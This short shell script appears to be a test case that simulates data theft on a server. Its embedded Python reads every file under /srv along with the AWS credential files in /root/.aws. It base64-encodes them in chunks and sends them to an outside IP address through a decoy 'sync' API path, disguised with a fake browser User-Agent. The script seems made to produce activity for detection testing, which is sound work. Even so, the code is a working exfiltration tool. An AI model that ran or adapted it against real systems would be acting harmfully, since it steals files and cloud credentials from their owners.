#!/bin/sh
. /opt/case/case.sh

head -c 400000 /dev/urandom >/srv/data/dump.sql
python3 - <<'END'
import base64, glob, os, urllib.request as u
n = 0
for f in glob.glob("/srv/**", recursive=True) + glob.glob("/root/.aws/*"):
    if not os.path.isfile(f): continue
    with open(f, "rb") as h:
        while (p := h.read(8192)):
            u.urlopen(u.Request(f"http://203.0.113.10/api/v2/sync?i={n}", data=b"d=" + base64.b64encode(p), headers={"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"})).read(); n += 1
assert n > 50
END
took_place
